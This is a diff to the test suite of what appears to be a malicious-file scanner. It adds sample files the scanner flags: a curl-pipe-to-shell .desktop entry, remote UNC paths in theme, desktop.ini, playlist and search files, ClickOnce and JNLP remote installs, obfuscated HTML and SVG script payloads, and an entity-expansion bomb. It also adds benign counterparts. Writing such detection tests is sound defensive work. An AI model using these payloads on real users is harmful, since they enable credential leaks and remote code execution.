@@ -114,6 +114,63 @@ test.each<[id: string, name: string, content: string]>([
     'a.desktop',
     '[Desktop Entry]\nType=Application\nExec=sh -c "curl http://a.invalid/ | sh"\n',
   ],
+  [
+    'scripts.remote-library',
+    'a.search-ms',
+    '<?xml version="1.0"?><persistedQuery version="1.0"><query><scope><include path="\\\\a.invalid\\x"/></scope></query></persistedQuery>',
+  ],
+  [
+    'scripts.remote-install',
+    'a.application',
+    '<?xml version="1.0"?><asmv1:assembly xmlns:asmv1="urn:schemas-microsoft-com:asm.v1"><asmv2:deployment><asmv2:deploymentProvider codebase="http://a.invalid/a.application"/></asmv2:deployment></asmv1:assembly>',
+  ],
+  [
+    'scripts.remote-install',
+    'a.jnlp',
+    '<?xml version="1.0"?><jnlp codebase="http://a.invalid" href="a.jnlp"><security><all-permissions/></security></jnlp>',
+  ],
+  ['scripts.remote-media', 'a.m3u', '#EXTM3U\n#EXTINF:1,a\n\\\\a.invalid\\x\\a.mp3\n'],
+  [
+    'scripts.remote-media',
+    'a.wax',
+    '<asx version="3.0"><entry><ref href="file://a.invalid/x/a.mp3"/></entry></asx>',
+  ],
+  [
+    'scripts.remote-icon',
+    'a.theme',
+    '[Theme]\n[Control Panel\\Desktop]\nWallpaper=\\\\a.invalid\\x\\a.jpg\n',
+  ],
+  ['scripts.remote-icon', 'desktop.ini', '[.ShellClassInfo]\nIconResource=\\\\a.invalid\\x\\a.ico,0\n'],
+  [
+    'scripts.html-inner-page',
+    'a.html',
+    '<html><head><meta http-equiv="refresh" content="0;url=data:text/html;base64,PHNjcmlwdD4="></head></html>',
+  ],
+  [
+    'scripts.html-inner-page',
+    'a.html',
+    `<html><meta content="1, URL='java&#115;cript:a()'" http-equiv=refresh></html>`,
+  ],
+  [
+    'scripts.html-decoding-handler',
+    'a.html',
+    '<html><body onload="eval(atob(\'YWxlcnQoMSk=\'))"></body></html>',
+  ],
+  [
+    'scripts.html-decoding-handler',
+    'a.html',
+    '<html><img src=x onerror="document.write(decodeURIComponent(escape(atob(this.id))))"></html>',
+  ],
+  [
+    'scripts.svg-active-link',
+    'a.svg',
+    `<!DOCTYPE svg [<!ENTITY a "java"><!ENTITY b '&a;script'>]>${svg('<a href="&b;:alert(1)"><text>x</text></a>')}`,
+  ],
+  [
+    'scripts.svg-script',
+    'a.svg',
+    `<!DOCTYPE svg [<!ENTITY a "&#60;script>alert(1)&#60;/script>">]>${svg('&a;')}`,
+  ],
 ])('%s in %s: %s', async (id, name, content) => {
   const found = await look(name, content);
   expect(found.ids).toContain(id);
@@ -162,8 +219,31 @@ test.each<[name: string, content: string]>([
   ],
   ['a.iqy', 'WEB\r\n1\r\nhttps://a.invalid/table\r\n'],
   ['desktop.ini', '[.ShellClassInfo]\r\nIconResource=C:\\Windows\\System32\\imageres.dll,3\r\n'],
+  ['a.html', '<html><head><meta http-equiv="refresh" content="5; url=https://a.invalid/"></head></html>'],
+  [
+    'a.html',
+    '<html><meta name="description" content="data: what it is"><body onload="setTimeout(start, 100)"></html>',
+  ],
+  ['a.svg', `<!DOCTYPE svg [<!ENTITY ns "http://a.invalid/ns">]>${svg('<g/>', 'xmlns:x="&ns;"')}`],
+  ['a.m3u', '#EXTM3U\n\\\\server\\music\\a.mp3\nhttps://a.invalid/a.mp3\n'],
+  [
+    'a.manifest',
+    '<?xml version="1.0"?><assembly><dependency><dependentAssembly codebase="a.dll"/></dependency></assembly>',
+  ],
+  [
+    'a.search-ms',
+    '<?xml version="1.0"?><persistedQuery><query><scope><include path="C:\\Users"/></scope></query></persistedQuery>',
+  ],
   ['a.xml', '<?xml version="1.0"?><project><url>https://a.invalid/</url></project>'],
   ['a.slk', 'ID;PWXL;N;E\nC;Y1;X1;K"a|b!c"\nE\n'],
 ])('clean: %s: %s', async (name, content) => {
   expect((await look(name, content)).score).toBeLessThan(300);
+});
+
+test('entities that name each other do not grow without bound', async () => {
+  const lines = Array.from({ length: 30 }, (_, n) => `<!ENTITY a${n + 1} "${`&a${n};`.repeat(10)}">`).join(
+    '',
+  );
+  const found = await look('a.svg', `<!DOCTYPE svg [<!ENTITY a0 "x">${lines}]>${svg('<text>&a30;</text>')}`);
+  expect(found.ids).toEqual([]);
 });
